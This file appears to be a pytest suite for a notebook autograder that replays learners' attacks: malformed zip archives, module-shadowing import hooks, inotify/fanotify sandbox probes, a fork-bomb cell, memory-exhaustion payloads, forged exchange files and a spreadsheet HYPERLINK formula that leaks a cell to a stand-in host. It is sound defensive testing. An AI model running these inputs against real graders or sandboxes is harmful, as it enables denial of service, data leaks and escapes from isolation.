"""What another fresh attacker broke, and what holds it now: each attack as it was made, and varied."""

import io
import json
import os
import struct
import subprocess
import sys
import time
import zipfile
from datetime import datetime
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import nbformat
import numpy as np
import pytest

from autograder.authoring.course import find_lesson
from autograder.diagnosis.attempt import explained
from autograder.diagnosis.explain import make_report
from autograder.grading import collect, find_notebook
from autograder.grading.marking import decide_marks, forbidden_names, remarks
from autograder.grading.reports import class_table
from autograder.judging.observation import Observation
from autograder.judging.values import MAX_KEY, ArrayNode, encode
from autograder.notebooks.archives import File
from autograder.notebooks.pictures import unmarked
from autograder.notebooks.rebuild_submission import UnreadableError, parse
from autograder.plugins import exchange
from autograder.plugins.sanitise import PageExporter
from autograder.sandbox import codec, launch, process
from autograder.sandbox.client import Sandbox
from autograder.sandbox.isolation_tiers import available_tiers
from autograder.sandbox.run_submission import Cell
from autograder.sandbox.submission_limits import Limits
from autograder.sandbox.wire import WireError
from autograder.workspace import doctor
from tests import sample

LESSON = "03_scaled_dot_product"
NOTE = f"{LESSON}.ipynb"
HONEST = f"Ann Lee_2_assignsubmission_file_/{NOTE}"
EVE = "Eve Moss_1_assignsubmission_file_"


def packed(entries: dict[Any, Any]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return file.getvalue()


def surveyed(folder: Path, entries: dict[Any, Any], known: dict[str, str] | None = None) -> collect.Intake:
    """What `attn collect` makes of a platform's download."""
    (folder / "download.zip").write_bytes(packed(entries))
    return collect.survey(folder / "download.zip", LESSON, known or {})


def far_away(offset: int) -> bytes:
    """A zip whose one entry begins at `offset`, as the 64-bit part of its table says."""
    data = packed({NOTE: "{}"})
    at, end = data.index(b"PK\x01\x02"), data.index(b"PK\x05\x06")
    entry, tail = bytearray(data[at:end]), bytearray(data[end:])
    entry[42:46], entry[30:32] = b"\xff" * 4, struct.pack("<H", 12)
    entry += struct.pack("<HHQ", 1, 8, offset)
    tail[12:16] = struct.pack("<I", len(entry))
    return bytes(data[:at] + entry + tail)


def nameless() -> bytes:
    """A zip whose one entry has no name at all."""
    data = packed({"x": "{}"})
    at = data.index(b"PK\x01\x02")
    entry = bytearray(data[at : data.index(b"PK\x05\x06")])
    entry[28:30] = b"\0\0"
    del entry[46:47]
    tail = bytearray(data[data.index(b"PK\x05\x06") :])
    tail[12:16] = struct.pack("<I", len(entry))
    return bytes(data[:at] + entry + tail)


@pytest.mark.parametrize("data", [far_away(2**63), far_away(2**64 - 1), far_away(2**40), nameless()])
def test_an_archive_that_is_broken_in_any_way_stops_nobody(data: bytes, tmp_path: Path) -> None:
    found = surveyed(tmp_path, {f"{EVE}/mine.zip": data, HONEST: "{}"})
    assert list(found.taken) == ["ann-lee-2"]
    assert [each.path.partition("/")[0] for each in found.refused] == [EVE]
    (tmp_path / "in" / "ann").mkdir(parents=True)
    (tmp_path / "in" / "ann" / NOTE).write_text("{}")
    (tmp_path / "in" / "eve.zip").write_bytes(data)
    assert list(collect.survey(tmp_path / "in", LESSON, {}).taken) == ["ann"]


def test_the_times_in_a_learners_own_zip_say_nothing(tmp_path: Path) -> None:
    early = zipfile.ZipInfo(f"eve/{LESSON}/{NOTE}", (2020, 1, 1, 0, 0, 0))
    (tmp_path / "eve.zip").write_bytes(packed({early: "{}"}))
    os.utime(tmp_path / "eve.zip", (1.9e9, 1.9e9))
    (tmp_path / "bob").mkdir()
    (tmp_path / "bob" / "late.zip").write_bytes(packed({early: "{}"}))
    os.utime(tmp_path / "bob" / "late.zip", (1.9e9, 1.9e9))
    taken = collect.survey(tmp_path, LESSON, {}).taken
    assert [taken[name].order[0] for name in ("eve", "bob")] == [datetime.fromtimestamp(1.9e9)] * 2


def test_one_learners_thousands_of_files_leave_the_others_lines_to_be_read(tmp_path: Path) -> None:
    odd = packed({f"{'x' * 180}{number}.exe": "" for number in range(900)})
    entries = {f"{EVE}/{number}.zip": odd for number in range(3)} | {
        f"evemoss_1_8{number}_x{number}.exe": "" for number in range(50)
    }
    found = surveyed(tmp_path, {**entries, "bob.exe": "", HONEST: "{}"})
    lines = collect.told(found)
    assert len(found.refused) > 2700
    assert len(lines) <= 21
    assert any(line.startswith("✗ bob.exe: ") for line in lines)
    assert any("more remarks on this submission" in line for line in lines)
    many = surveyed(tmp_path, {f"{EVE}/{number}.zip": packed({f"{number}/{NOTE}": "{}"}) for number in range(300)})
    assert max(map(len, collect.told(many))) <= 400


def test_thousands_of_notebooks_of_one_learner_take_no_more_than_their_number(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    files = [File(f"eve/{number}/{NOTE}", b"", datetime(2026, 1, 1)) for number in range(20_000)]
    monkeypatch.setattr(collect, "read_all", lambda *_: iter(files))
    started = time.process_time()
    assert len(collect.survey(tmp_path, LESSON, {}).refused) + len(collect.survey(tmp_path, LESSON, {}).taken) > 0
    assert time.process_time() - started < 20  # it was minutes


def test_two_people_whose_ids_and_names_make_one_are_refused_with_both(tmp_path: Path) -> None:
    early = zipfile.ZipInfo(f"Robert B_9_assignsubmission_file_/{NOTE}", (2026, 1, 1, 0, 0, 0))
    late = zipfile.ZipInfo(f"Bob_5_assignsubmission_file_/{NOTE}", (2026, 1, 2, 0, 0, 0))
    found = surveyed(tmp_path, {early: "his", late: "another's"}, {"9": "Bob-5"})
    assert found.taken == {}
    assert all("'5' and '9' would both be 'Bob-5'" in each.reason for each in found.refused)
    assert len(found.refused) == 2


SHADOWS = ("json", "typing", "socket", "struct", "contextlib", "nbformat", "pygments", "html", "resource", "autograder")


def test_modules_in_the_folder_where_the_grader_is_called_are_not_imported(tmp_path: Path) -> None:
    """`attn collect` lays a learner's modules beside the notebook, and an instructor may stand there."""
    for name in SHADOWS:
        (tmp_path / f"{name}.py").write_text(f"open({str(tmp_path / 'ran')!r}, 'a').write('{name}\\n')\n")
    ask = "from autograder.grading import read_in_child; print(read_in_child.read([read_in_child.Task('names', 'x = 1')]))"
    environment = {name: value for name, value in os.environ.items() if name != "PYTHONSAFEPATH"}
    done = subprocess.run(
        [sys.executable, "-P", "-c", ask], cwd=tmp_path, env=environment, capture_output=True, text=True, timeout=120, check=False
    )
    assert not (tmp_path / "ran").exists(), (tmp_path / "ran").read_text()
    assert "['x']" in done.stdout, done.stderr


def test_the_doctor_starts_no_kernel_among_the_modules_of_whoever_stands_there(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in SHADOWS:
        (tmp_path / f"{name}.py").write_text(f"open({str(tmp_path / 'ran')!r}, 'a').write('{name}\\n')\n")
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("PYTHONSAFEPATH", raising=False)
    assert doctor.kernel().status == "pass"
    assert not (tmp_path / "ran").exists(), (tmp_path / "ran").read_text()


def test_of_a_heap_of_files_few_are_read_for_a_renamed_notebook(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for number in range(150):
        (tmp_path / f"{number}.json").write_text("{}")
    asked: list[Path] = []
    monkeypatch.setattr(find_notebook, "load", lambda path: asked.append(path) or b"{}")  # type: ignore[func-returns-value]  # it asks and answers
    assert find_notebook.read_folder(tmp_path, LESSON).data is None
    assert len(asked) <= find_notebook.MAX_READ


def test_of_a_heap_of_archives_few_are_opened(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Each may hold a hundred and fifty megabytes of texts that are no notebook."""
    for number in range(100):
        (tmp_path / f"{number}.zip").write_bytes(packed({"notes.txt": "no notebook"}))
    opened: list[Path] = []
    monkeypatch.setattr(find_notebook, "read_all", lambda path, _: opened.append(path) or [])  # type: ignore[func-returns-value]  # it notes and answers
    assert find_notebook.read_folder(tmp_path, LESSON).data is None
    assert len(opened) == find_notebook.MAX_ARCHIVES


PICTURED = "<img" * 24 + " src='data:image/" * 6


def test_what_may_stand_for_a_picture_is_found_in_time_that_grows_with_the_text() -> None:
    """Twenty megabytes of places where a picture might stand held every thread for twelve seconds before they were refused."""
    source = PICTURED * 120
    cell = {"cell_type": "markdown", "source": source[:20_000], "metadata": {}, "attachments": {"a": {"image/png": ""}}}
    data = json.dumps({"cells": [cell] * 950}).encode()
    started = time.process_time()
    with pytest.raises(UnreadableError, match="text in its cells"):
        parse(data)
    assert time.process_time() - started < 1.5
    assert (
        unmarked("<img alt='a' src='attachment:a.png'> ![a](attachment:a.png) ![b](b.png)", 99)
        == "(picture) (picture) ![b](b.png)"
    )


def test_in_a_crowd_of_statements_a_forbidden_name_is_found_cell_by_cell(monkeypatch: pytest.MonkeyPatch) -> None:
    record = find_lesson(LESSON).pack(seed=1).exercises["sdpa"]
    monkeypatch.setattr(forbidden_names, "MAX_PARTS", 3)
    cells = [nbformat.v4.new_code_cell(f"x{number} = 1\ny{number} = 2") for number in range(3)]
    cells += [
        nbformat.v4.new_code_cell("quick = F.scaled_dot_product_attention\nz = 1"),
        nbformat.v4.new_code_cell("def sdpa(Q): return quick(Q)"),
    ]
    cells[-1].metadata["nbgrader"] = {"grade_id": "sdpa", "solution": True}
    said = forbidden_names.flags({"sdpa": record}, nbformat.v4.new_notebook(cells=cells))
    assert any(each.startswith("sdpa names F.scaled") for each in said), said


def test_numbers_that_overflow_in_an_explanation_warn_nobody() -> None:
    """Warnings are errors in these tests; in a grader they would stand among its lines."""
    record = find_lesson(LESSON).pack(seed=1).exercises["sdpa"]
    right = [case.expected.value for case in record.cases if case.expected.value is not None]
    for number in (1e308, -1e308, 5e-324):

        def filled(leaf: Any, number: float = number) -> ArrayNode:
            return ArrayNode(np.full(leaf.content.shape, number), leaf.kind)

        huge = [Observation(value.map(filled)) for value in right]
        make_report(explained(decide_marks.judged_from(record, huge)))


WATCH = """
import ctypes, os
libc, seen = ctypes.CDLL(None, use_errno=True), []
for make in (lambda: libc.inotify_init(), lambda: libc.inotify_init1(0o4000), lambda: libc.fanotify_init(0x200 | 0x400, 0)):
    seen.append(make())
print(seen, libc.inotify_add_watch(0, b"..", 0x100), libc.fanotify_mark(0, 1, 0x100, -100, b".."))
"""


def test_no_folder_can_be_watched(isolated: Sandbox) -> None:
    """Landlock lets a folder be watched that it lets nobody list: the names of others came, as each of them was graded."""
    with isolated.submission([Cell("a", WATCH)]) as submitted:
        assert submitted.outputs[0].outputs[0]["text"] == "[-1, -1, -1] -1 -1\n"


SIGNALS_ABOUT_FILES = """
import fcntl, struct, sys
def refused(call, *arguments):
    try: call(*arguments)
    except PermissionError: return True
    return False
folder = os.open(".", os.O_RDONLY)
shared = os.open(sys.executable, os.O_RDONLY)  # all workers may read it
lock = struct.pack("hhqqi4x", fcntl.F_RDLCK, 0, 0, 1, 0)
print([refused(fcntl.fcntl, folder, number, 1) for number in (1024, 1026)])
locks = [refused(fcntl.fcntl, shared, number, lock) for number in (5, 6, 7, 36, 37, 38)]
print(locks, refused(fcntl.flock, shared, fcntl.LOCK_SH))
print(fcntl.fcntl(shared, fcntl.F_GETFD) & fcntl.FD_CLOEXEC, os.dup(shared) > 2)
"""


def test_no_folder_sends_signals_and_no_lock_is_seen_by_others(isolated: Sandbox) -> None:
    with isolated.submission([Cell("a", "import os" + SIGNALS_ABOUT_FILES)]) as submitted:
        (seen,) = submitted.outputs[0].outputs
    assert seen["text"].splitlines() == [str([True] * 2), f"{[True] * 6} True", "1 True"]


def test_the_sandbox_users_are_nobodys_and_none_of_systemds() -> None:
    first = int(launch.FIRST_USER)
    assert {*range(first, first + launch.USERS)} <= {*range(60578, 61184)}


LONG_KEY = "\U0001f600" + "a" * 100_000


def test_a_long_key_above_thousands_of_parts_fills_no_memory(isolated: Sandbox, sample_course: Path) -> None:
    """Each part's path holds the key: ten thousand of them were four gigabytes of the grader's."""
    record = next(iter(sample.lesson().pack(seed=1, naming="listed").in_code.values()))
    source = f"def {record.id}(**_): return {{{LONG_KEY!r}: [1] * 9_900}}"
    with isolated.submission([Cell("a", source)]) as submitted:
        seen = submitted.observe_all([decide_marks.question(record)])[record.id]
    assert all(one.value is not None and one.value.strange for one in seen)
    assert decide_marks.judged_from(record, seen).score == 0
    with pytest.raises(WireError, match="keys of at most"):
        codec.fetch_tree([{"d": [["a" * (MAX_KEY + 1), {"s": 1}]]}, 0, 0], [])
    assert encode({"a" * MAX_KEY: 1}).kind == "dict"


def test_an_array_that_is_sent_once_is_in_one_place() -> None:
    """In a forged reply four megabytes stood in 990 places, and were put together to four gigabytes."""
    arrays = [np.zeros(500_000), np.zeros(0)]
    twice = {"l": [{"a": 0, "k": "array"}, {"a": 0, "k": "array"}]}
    with pytest.raises(WireError, match="in one place"):
        codec.fetch_tree([twice, 0, 2], arrays)
    assert codec.fetch_tree([{"l": [{"a": 0, "k": "array"}, {"a": 1, "k": "array"}]}, 0, 2], arrays) is not None


SPIN = "import time\nuntil = time.process_time() + {}\nwhile time.process_time() < until: pass"
CROWD = "import os\nfor _ in range(30):\n    if os.fork() == 0:\n        os.setsid()\n        while True: pass\nwhile True: pass"


@pytest.mark.slow  # half a minute
def test_a_cell_that_waits_for_a_processor_has_the_seconds_of_one_that_does_not() -> None:
    """Half a second of work and a limit of one, with six others in line, each with a session of its own, as if not one's."""
    if not process.TELLS:
        pytest.skip("this kernel does not say how long a process waited")
    for tier in (each.name for each in available_tiers() if each.available and each.name != "none"):
        with Sandbox(tier, Limits(cell_s=1.0, wall_s=20.0), ("numpy",)) as sandbox:
            assert sandbox._host is not None
            assert sandbox._host._process is not None
            worker, cpu = sandbox._host._inner or sandbox._host._process.pid, min(os.sched_getaffinity(0))
            spin = f"import os; os.sched_setaffinity(0, {{{cpu}}})\nwhile True: pass"
            os.sched_setaffinity(worker, {cpu})
            others = [subprocess.Popen([sys.executable, "-c", spin], start_new_session=True) for _ in range(6)]
            try:
                program = f"import subprocess, sys\nsubprocess.run([sys.executable, '-ISc', {SPIN.format(0.3)!r}], check=True)"
                with sandbox.submission([Cell("a", program)]) as submitted:  # as `!pip install numpy` is one
                    assert [cell.status for cell in submitted.outputs] == ["ok"], tier
                cells = [Cell("a", SPIN.format(0.5)), Cell("b", SPIN.format(99)), Cell("c", "import time\ntime.sleep(99)")]
                with sandbox.submission(cells) as submitted:
                    assert [cell.status for cell in submitted.outputs] == ["ok", "timeout", "timeout"], tier
            finally:
                for other in others:
                    other.kill()
                    other.wait()
            with sandbox.submission([Cell("a", "x = 1")]):
                pass
            began = time.monotonic()
            with sandbox.submission([Cell("a", CROWD)]) as submitted:
                assert submitted.outputs[0].status == "timeout"
            assert time.monotonic() - began < 12, "a crowd of one's own earns no patience"


def test_a_remark_on_what_a_cell_said_is_one_line() -> None:
    failed = nbformat.v4.new_output("error", ename="ValueError", evalue="\n" * 300 + "x", traceback=[])
    assert str(remarks.error_of(nbformat.v4.new_code_cell("", outputs=[failed]))) == "ValueError: x"


@pytest.mark.parametrize("text", ['a.txt;=HYPERLINK("http://example.org?"&A1)', "a; +1", "x\t=1", "=1;-1", "a;\uff1d1"])
def test_no_cell_is_a_formula_where_a_semicolon_parts_them(text: str) -> None:
    parts = [part for half in class_table.cell(text).split(";") for part in half.split("\t")]
    assert not any(part.lstrip()[:1] in {*"=+-@", "\uff1d"} for part in parts)
    assert class_table.cell("Ann; b - c") == "Ann; b - c"


def test_what_is_laid_in_the_exchange_in_anothers_name_replaces_nothing_of_theirs(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    owners = {"mine": 1001, "forged": 1002, "laid_by_hand": 0}
    accounts = {"bob": 1001}
    monkeypatch.setattr("pwd.getpwnam", lambda name: SimpleNamespace(pw_uid=accounts[name]))
    monkeypatch.setattr(exchange.os, "lstat", lambda path: SimpleNamespace(st_uid=owners[Path(path).name]))
    monkeypatch.setattr(exchange.os, "geteuid", lambda: 1000)
    said: list[str] = []
    log = type("Log", (), {"warning": staticmethod(said.append)})
    monkeypatch.setattr(exchange.Collect, "log", log, raising=False)
    collector = object.__new__(exchange.Collect)
    collector.inbound_path = str(tmp_path)

    def chosen(*names: str, student: str = "bob") -> list[str]:
        records = [
            {"username": student, "filename": name, "timestamp": datetime(2026, 1, day)} for day, name in enumerate(names, 1)
        ]
        return [record["filename"] for record in collector._sort_by_timestamp(records)]

    assert chosen("mine", "forged") == ["mine"]
    assert len(said) == 1
    assert chosen("mine", "laid_by_hand") == ["laid_by_hand", "mine"]
    assert chosen("forged") == ["forged"], "nbgrader warns of it"
    assert chosen("mine", "forged", student="no account") == ["forged", "mine"]


PAGES = {
    "headings": ("markdown", "# a\n" * 5000),
    "dots": ("code", "a." * 9000),
    "lines": ("code", "a.\\\n" * 6000),
}


@pytest.mark.parametrize("name", PAGES)
def test_many_cells_that_are_slow_to_show_hold_the_formgrader_for_seconds(name: str) -> None:
    kind, source = PAGES[name]
    PageExporter().from_notebook_node(nbformat.v4.new_notebook())  # its libraries
    make = nbformat.v4.new_code_cell if kind == "code" else nbformat.v4.new_markdown_cell
    cells = [make(source, id=f"extra-{number}") for number in range(30)]
    last = nbformat.v4.new_markdown_cell("## The lesson's **own**")
    began = time.process_time()
    page, _ = PageExporter().from_notebook_node(nbformat.v4.new_notebook(cells=[*cells, last]))
    assert time.process_time() - began < 15  # it was half a minute to two
    assert "<strong>own</strong>" in page


def test_a_row_of_underscores_does_not_hold_the_formgrader() -> None:
    cells = [nbformat.v4.new_markdown_cell("Name: " + "_" * 200), nbformat.v4.new_code_cell("# " + "_" * 200)]
    began = time.thread_time()
    PageExporter().from_notebook_node(nbformat.v4.new_notebook(cells=cells))
    assert time.thread_time() - began < 5
